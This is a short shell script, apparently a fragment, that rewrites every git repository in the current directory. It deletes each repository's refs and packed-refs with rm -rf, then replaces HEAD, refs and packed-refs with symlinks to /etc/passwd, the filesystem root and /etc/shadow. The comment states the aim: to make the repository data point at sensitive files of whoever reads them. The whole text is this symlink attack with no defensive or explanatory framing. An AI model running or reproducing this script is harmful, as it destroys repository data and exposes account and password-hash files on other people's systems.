# Objects and refs that are links to files of whoever reads them.
for git in */.git *.git; do
    ln -sf /etc/passwd "$git/HEAD"
    rm -rf "$git/refs" "$git/packed-refs"
    ln -s / "$git/refs"
    ln -s /etc/shadow "$git/packed-refs"
done
